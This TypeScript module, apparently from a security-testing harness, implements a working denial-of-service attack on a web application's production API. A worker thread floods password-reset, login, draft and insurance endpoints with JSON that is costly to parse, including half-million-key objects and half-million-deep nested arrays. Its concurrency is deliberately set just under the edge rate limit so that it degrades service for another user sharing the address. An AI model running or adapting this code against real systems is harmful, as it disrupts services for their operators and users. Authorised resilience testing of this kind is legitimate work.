import { Worker } from 'node:worker_threads';
import type { TimedAttack } from './timed-attack';

/** Requests at once, below the edge's limit for one address, which the other user shares. */
const atOnce = 16;

const objectOf = (keys: number) => `{${Array.from({ length: keys }, (_, at) => `"key${at}":1`).join(',')}}`;
const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;

/** Calls, with and without a session, whose JSON takes long to make or to look through. */
const bodies = [
  { path: '/users/passwordReset', method: 'POST', body: objectOf(500_000) },
  { path: '/users/passwordReset', method: 'POST', body: objectOf(1_300) },
  { path: '/users/passwordReset', method: 'POST', body: nested(500_000) },
  { path: '/nowhere', method: 'POST', body: objectOf(500_000) },
  { path: '/login', method: 'POST', form: true, body: 'a=&'.repeat(10_000) },
  { path: '/api/addReduces/draft', method: 'PUT', body: objectOf(500_000) },
  { path: '/api/addReduces/draft', method: 'PUT', body: nested(500_000) },
  { path: '/api/insures/checkPersons', method: 'POST', body: `{"rows":[${'{},'.repeat(400_000)}{}]}` },
];

/** Runs in a thread of its own, so that sending does not slow down whoever measures the others. */
const sender = `
  const { parentPort, workerData } = require('node:worker_threads');
  const { base, token, atOnce } = workerData;
  const bodies = workerData.bodies.map((one) => ({ ...one, body: Buffer.from(one.body) }));
  const counts = {};
  const send = async (from) => {
    for (let index = from; ; index += 1) {
      const { path, method, body, form } = bodies[index % bodies.length];
      const type = form ? 'application/x-www-form-urlencoded' : 'application/json';
      const headers = { Token: token, 'Content-Type': type };
      const status = await fetch(base + '/prod-api' + path, { method, headers, body })
        .then((reply) => reply.arrayBuffer().then(() => reply.status))
        .catch(() => 'closed');
      counts[status] = (counts[status] ?? 0) + 1;
      parentPort.postMessage(counts);
    }
  };
  for (let at = 0; at < atOnce; at += 1) void send(at);
`;

/** Sends them until the end, several at once. */
export const costlyJson: TimedAttack = {
  name: 'costly JSON',
  async begin({ base, attacker: { token } }) {
    let counts: Record<string, number> = {};
    const thread = new Worker(sender, { eval: true, workerData: { base, token, atOnce, bodies } });
    thread.on('message', (latest: Record<string, number>) => (counts = latest));
    return () => {
      void thread.terminate();
      return Object.entries(counts)
        .map(([status, count]) => `${count} × ${status}`)
        .join(', ');
    };
  },
};
